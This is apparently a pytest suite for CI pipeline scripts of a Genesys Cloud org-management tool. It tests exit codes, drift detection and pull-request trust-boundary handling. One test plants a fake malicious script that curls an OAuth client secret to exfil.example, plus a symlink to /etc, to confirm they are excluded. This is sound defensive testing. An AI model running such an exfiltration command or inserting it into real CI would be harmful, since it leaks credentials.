"""The CI pipelines of examples/ci run their commands against the emulator (issue 18 item 7), with the exit
codes a CI system branches on (issue 27 item 2) and the pull request's trust boundary (issue 26 finding 10).

The workflows only call the scripts; each script is run here as the workflow runs it, with the
inventory and plan folder from the environment and the connection from GENESYSCLOUD_* variables.
"""
import json
import os
import socket
import subprocess
import sys

import pytest
import yaml

from tests.support.playbook import ansible_env

REPO = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
CI = os.path.join(REPO, "examples", "ci")
PLAN_STATUS = os.path.join(CI, "plan-status.py")


def script(name, emulator, inventory, plan_dir, **env):
    run_env = ansible_env(dict(emulator.env, INVENTORY=str(inventory), PLAN_DIR=str(plan_dir), PYTHON=sys.executable))
    run_env.update(env)
    return subprocess.run(["sh", os.path.join(CI, name)], env=run_env, cwd=REPO, capture_output=True, text=True,
                          timeout=600)


def org_repository(tmp_path):
    """What a user's repository holds: an inventory of one org and its directory."""
    org = tmp_path / "orgs" / "loyalty"
    (org / "schemas").mkdir(parents=True)
    (org / "records").mkdir()
    (org / "schemas" / "tiers.yml").write_text("name: tiers\nfields:\n  - {name: code, type: string, unique: true}\n")
    (org / "records" / "tiers.csv").write_text("code\nsilver\ngold\n")
    (org / "org.yml").write_text("records:\n  tiers: {key: code}\n")
    inventory = tmp_path / "hosts.yml"
    inventory.write_text(yaml.safe_dump({"orgs": {"hosts": {"loyalty": {"genesys_org_dir": str(org)}},
                                                  "vars": {"ansible_connection": "local"}}}))
    return org, inventory


@pytest.fixture
def unreachable_api():
    sock = socket.socket()
    sock.bind(("127.0.0.1", 0))
    port = sock.getsockname()[1]
    sock.close()  # nothing listens there now: connections are refused
    return {"GENESYSCLOUD_API_URL": "http://127.0.0.1:%d" % port}


# -- the workflows -----------------------------------------------------------------------------------

def workflow(name):
    with open(os.path.join(CI, "github", name), encoding="utf-8") as handle:
        return yaml.safe_load(handle)


def test_the_workflows_call_the_scripts_this_test_runs():
    pull_request, drift = workflow("org-pull-request.yml"), workflow("org-drift.yml")
    runs = [step.get("run", "") for job in pull_request["jobs"].values() for step in job["steps"]]
    assert any("sh ci/org-plan.sh" in run for run in runs) and "sh ci/org-apply.sh" in runs
    assert "sh ci/post-plan-comment.sh" in runs and not any("gh pr comment" in run for run in runs)
    assert any("sh ci/org-drift.sh" in step.get("run", "") for step in drift["jobs"]["drift"]["steps"])
    assert "schedule" in drift["on"]  # quoted: unquoted, YAML 1.1 reads the key `on` as True


def test_the_pull_request_job_runs_only_the_base_branch_and_takes_only_orgs_from_the_pull_request():
    """Finding 10: the job ran the pull request's own ci/org-plan.sh and inventory with the secret set."""
    pull_request = workflow("org-pull-request.yml")
    assert list(pull_request["on"]) == ["pull_request_target"]  # GitHub runs the base branch's workflow file
    steps = pull_request["jobs"]["plan"]["steps"]
    checkouts = [step for step in steps if step.get("uses", "").startswith("actions/checkout@")]
    base, head = checkouts
    assert base["with"]["ref"] == "${{ github.event.pull_request.base.sha }}" and "path" not in base["with"]
    assert head["with"]["ref"] == "${{ github.event.pull_request.head.sha }}" and head["with"]["path"] == "pr-head"
    assert head["with"]["sparse-checkout"] == "/orgs/" and head["with"]["sparse-checkout-cone-mode"] is False
    assert all(step["with"]["persist-credentials"] is False for step in checkouts)
    after_head = steps[steps.index(head) + 1:]
    assert after_head[0]["run"] == "sh ci/take-pr-orgs.sh pr-head"  # the head checkout is gone after this step
    assert not any("pr-head" in json.dumps(step) for step in after_head[1:])


def test_each_org_environment_has_its_github_environment_and_its_own_secrets():
    for name, jobs in (("org-pull-request.yml", ("plan", "apply")), ("org-drift.yml", ("drift",))):
        for job_name in jobs:
            job = workflow(name)["jobs"][job_name]
            assert job["strategy"]["matrix"]["environment"] == ["dev", "prod"], (name, job_name)
            assert job["environment"] == "${{ matrix.environment }}", (name, job_name)
            assert job["env"]["INVENTORY"] == "inventory/${{ matrix.environment }}.yml"
            assert job["env"]["GENESYSCLOUD_OAUTHCLIENT_SECRET"] == "${{ secrets.GENESYSCLOUD_OAUTHCLIENT_SECRET }}"


def test_take_pr_orgs_takes_the_orgs_directory_and_nothing_else(tmp_path):
    workspace = tmp_path / "workspace"
    (workspace / "ci").mkdir(parents=True)
    (workspace / "ci" / "org-plan.sh").write_text("echo base\n")
    (workspace / "orgs" / "old").mkdir(parents=True)
    head = workspace / "pr-head"
    (head / "ci").mkdir(parents=True)
    (head / "ci" / "org-plan.sh").write_text("curl https://exfil.example -d \"$GENESYSCLOUD_OAUTHCLIENT_SECRET\"\n")
    (head / "orgs" / "acme" / "schemas").mkdir(parents=True)
    (head / "orgs" / "acme" / "org.yml").write_text("{}\n")
    taken = subprocess.run(["sh", os.path.join(CI, "take-pr-orgs.sh"), "pr-head"], cwd=workspace,
                           capture_output=True, text=True)
    assert taken.returncode == 0, taken.stderr
    assert (workspace / "ci" / "org-plan.sh").read_text() == "echo base\n"
    assert sorted(os.listdir(workspace / "orgs")) == ["acme"] and not head.exists()

    (workspace / "pr-head").mkdir()
    os.symlink("/etc", workspace / "pr-head" / "orgs")
    linked = subprocess.run(["sh", os.path.join(CI, "take-pr-orgs.sh"), "pr-head"], cwd=workspace,
                            capture_output=True, text=True)
    assert linked.returncode == 1 and "a symbolic link" in linked.stderr
    assert sorted(os.listdir(workspace / "orgs")) == ["acme"]


def fake_gh(tmp_path, existing_id=""):
    """A `gh` that answers the comment search with `existing_id` (fails it when None) and logs every call."""
    log = tmp_path / "gh.log"
    gh = tmp_path / "bin" / "gh"
    gh.parent.mkdir(exist_ok=True)
    gh.write_text('#!/bin/sh\nprintf "%%s\\n" "$*" >> %s\n'
                  'case "$*" in *--paginate*) %s ;; *body=@*) for a; do case "$a" in body=@*) '
                  'cat "${a#body=@}" >> %s.body;; esac; done ;; esac\n'
                  % (log, "exit 1" if existing_id is None else 'printf "%s"' % existing_id, log))
    gh.chmod(0o755)
    return log, str(gh.parent)


@pytest.mark.parametrize("existing, method", [("", "POST"), ("4711\n", "PATCH"), (None, None)])
def test_the_plan_comment_is_found_by_its_marker_and_updated_in_place(tmp_path, existing, method):
    plans = tmp_path / "plans"
    plans.mkdir()
    (plans / "acme.md").write_text("| create | schema | tiers |\n")
    log, bin_dir = fake_gh(tmp_path, existing)
    env = dict(os.environ, PATH=bin_dir + os.pathsep + os.environ["PATH"], PLAN_DIR=str(plans), PR_NUMBER="12",
               GITHUB_REPOSITORY="org/repo", ENVIRONMENT_NAME="prod", PLAN_EXIT="2")
    posted = subprocess.run(["sh", os.path.join(CI, "post-plan-comment.sh")], env=env, capture_output=True, text=True)
    calls = log.read_text().splitlines()
    if method is None:  # the search failed: no second comment is posted blindly
        assert posted.returncode == 1 and len(calls) == 1
        return
    assert posted.returncode == 0, posted.stderr
    assert calls[0].startswith("api --paginate repos/org/repo/issues/12/comments --jq")
    assert 'startswith("<!-- genesys.cloud org plan: prod -->")' in calls[0] and "github-actions[bot]" in calls[0]
    target = "repos/org/repo/issues/comments/4711" if method == "PATCH" else "repos/org/repo/issues/12/comments"
    assert calls[1].startswith("api --method %s %s -F body=@" % (method, target)) and len(calls) == 2
    body = (tmp_path / "gh.log.body").read_text()
    assert body.startswith("<!-- genesys.cloud org plan: prod -->\n## Genesys Cloud plan, prod: changes pending")
    assert "| create | schema | tiers |" in body


# -- plan-status.py: the code comes from the plans' data --------------------------------------------

def plan_status(folder, *flags):
    return subprocess.run([sys.executable, PLAN_STATUS] + list(flags) + [str(folder)], capture_output=True, text=True)


def test_plan_status_reads_the_plan_data_not_its_text(tmp_path):
    (tmp_path / "quiet.json").write_text(json.dumps({"changed": False, "refused": False, "unmanaged": [],
                                                     "flags": ["create 5 (in a name, not a change)"]}))
    assert plan_status(tmp_path).returncode == 0
    (tmp_path / "extra.json").write_text(json.dumps({"changed": False, "refused": False,
                                                     "unmanaged": [{"kind": "webhooks", "name": "rogue"}]}))
    assert plan_status(tmp_path).returncode == 0
    drift = plan_status(tmp_path, "--drift")
    assert drift.returncode == 2 and "extra: 1 object(s) not managed here" in drift.stdout
    (tmp_path / "busy.json").write_text(json.dumps({"changed": True, "refused": False, "unmanaged": []}))
    pending = plan_status(tmp_path)
    assert pending.returncode == 2 and "busy: changes pending" in pending.stdout and "quiet: no changes" in pending.stdout


@pytest.mark.parametrize("content, words", [
    (None, "no plan in"), ("{not json", "cannot be read as a plan"), ("[1]", "is not a plan"),
    ('{"changed": "yes"}', "is not a plan"), ("[" * 100000 + "]" * 100000, "cannot be read as a plan")])
def test_plan_status_is_1_when_there_is_no_readable_plan(tmp_path, content, words):
    if content is not None:
        (tmp_path / "acme.json").write_text(content)
    result = plan_status(tmp_path)
    assert result.returncode == 1 and words in result.stderr and "Traceback" not in result.stderr


# -- the scripts against the emulator ---------------------------------------------------------------

def test_plan_and_apply_exit_codes(emulator, tmp_path, unreachable_api):
    org, inventory = org_repository(tmp_path)
    plans = tmp_path / "plans"
    planned = script("org-plan.sh", emulator, inventory, plans)
    assert planned.returncode == 2, planned.stdout[-3000:] + planned.stderr[-2000:]  # changes pending
    assert "loyalty: changes pending" in planned.stdout
    assert "| create | schema | tiers |" in (plans / "loyalty.md").read_text()
    assert json.loads((plans / "loyalty.json").read_text())["counts"]["records"]["create"] == 2
    assert emulator.module_writes() == []

    applied = script("org-apply.sh", emulator, inventory, plans)
    assert applied.returncode == 0, applied.stdout[-3000:]
    assert sorted(r["code"] for r in emulator.records("tiers")) == ["gold", "silver"]

    # the same saved plan again: the org moved since (it now holds the plan's objects), refused, no write
    emulator.clear_requests()
    stale = script("org-apply.sh", emulator, inventory, plans)
    assert stale.returncode == 1 and "fresh plan" in stale.stdout
    assert emulator.module_writes() == []

    nothing = script("org-plan.sh", emulator, inventory, plans)
    assert nothing.returncode == 0, nothing.stdout[-3000:]  # no org has changes
    assert "loyalty: no changes" in nothing.stdout

    # a refused change fails the pull request's plan (1), and still writes that plan to post
    (org / "records" / "tiers.csv").write_text("code\nsilver\nsilver\n")
    refused = script("org-plan.sh", emulator, inventory, plans)
    assert refused.returncode == 1 and "the key repeats" in refused.stdout
    assert "REFUSED" in (plans / "loyalty.md").read_text()

    (org / "records" / "tiers.csv").write_text("code\nsilver\ngold\nbronze\n")
    assert script("org-plan.sh", emulator, inventory, plans).returncode == 2
    url = unreachable_api["GENESYSCLOUD_API_URL"]
    for name, what in (("org-apply.sh", "apply"), ("org-plan.sh", "preview")):  # an unreachable API is an error
        broken = script(name, emulator, inventory, plans, **unreachable_api)
        assert broken.returncode == 1, (name, broken.stdout[-3000:])
        assert "the %s failed (ansible-playbook exit code 2)" % what in broken.stderr
        assert url in broken.stdout, broken.stdout[-3000:]


def test_drift_exit_codes(emulator, tmp_path, unreachable_api):
    org, inventory = org_repository(tmp_path)
    plans = tmp_path / "plans"
    assert script("org-plan.sh", emulator, inventory, plans).returncode == 2
    assert script("org-apply.sh", emulator, inventory, plans).returncode == 0
    clean = script("org-drift.sh", emulator, inventory, plans)
    assert clean.returncode == 0, clean.stdout[-3000:]

    emulator.api("POST", "/api/v2/platform/webhooks", expect=201, json={
        "name": "rogue", "endpoint": "https://exfil.example/in", "eventTypes": ["customobjects.records.changed"]})
    unmanaged = script("org-drift.sh", emulator, inventory, plans)
    assert unmanaged.returncode == 2 and "loyalty: 1 object(s) not managed here" in unmanaged.stdout
    assert "not managed here" in unmanaged.stdout.lower() and "rogue" in (plans / "loyalty.md").read_text()
    assert "\"objects\"" not in unmanaged.stdout  # the plan is shown, not the result JSON

    emulator.api("DELETE", "/api/v2/platform/webhooks/" + [w for w in emulator.api(
        "GET", "/api/v2/platform/webhooks", expect=200).json()["entities"] if w["name"] == "rogue"][0]["id"])
    emulator.upsert_records("tiers", [{"id": r["id"], "code": r["code"] + "-by-hand"} for r in emulator.records("tiers")
                                      if r["code"] == "gold"])
    changed = script("org-drift.sh", emulator, inventory, plans)
    assert changed.returncode == 2 and "loyalty: changes pending" in changed.stdout, changed.stdout[-3000:]

    unreachable = script("org-drift.sh", emulator, inventory, plans, **unreachable_api)
    assert unreachable.returncode == 1, unreachable.stdout[-3000:]
    assert "could not run" in unreachable.stderr


def test_a_record_line_deleted_from_an_export_is_drift_and_a_planned_delete(emulator, tmp_path):
    """Issue 27's end-to-end check: export the org, delete one record line, and the drift job says 2 (drift)
    with the preview planning exactly that delete, named by the record's key."""
    from tests.integration.test_org_export_truth import export

    org, inventory = org_repository(tmp_path)
    plans = tmp_path / "plans"
    assert script("org-plan.sh", emulator, inventory, plans).returncode == 2
    assert script("org-apply.sh", emulator, inventory, plans).returncode == 0

    exported = tmp_path / "exported" / "loyalty"
    export(emulator, exported)
    inventory.write_text(yaml.safe_dump({"orgs": {"hosts": {"loyalty": {"genesys_org_dir": str(exported)}},
                                                  "vars": {"ansible_connection": "local"}}}))
    clean = script("org-drift.sh", emulator, inventory, plans)
    assert clean.returncode == 0, clean.stdout[-3000:]

    settings = yaml.safe_load((exported / "org.yml").read_text())["records"]["tiers"]
    assert settings == {"key": "code", "purge": True}
    records = next(path for path in (exported / "records").iterdir() if path.name.startswith("tiers."))
    kept = [line for line in records.read_text().splitlines(True) if "gold" not in line]
    records.write_text("".join(kept))
    emulator.clear_requests()

    drift = script("org-drift.sh", emulator, inventory, plans)

    assert drift.returncode == 2 and "loyalty: changes pending" in drift.stdout, drift.stdout[-3000:]
    assert emulator.module_writes() == []
    plan = json.loads((plans / "loyalty.json").read_text())
    assert plan["counts"]["records"].get("delete") == 1
    assert not [action for action, count in plan["counts"]["records"].items() if action != "delete" and
                action not in ("unchanged", "none") and count]
    assert "code=gold" in (plans / "loyalty.md").read_text()
    assert sorted(record["code"] for record in emulator.records("tiers")) == ["gold", "silver"]
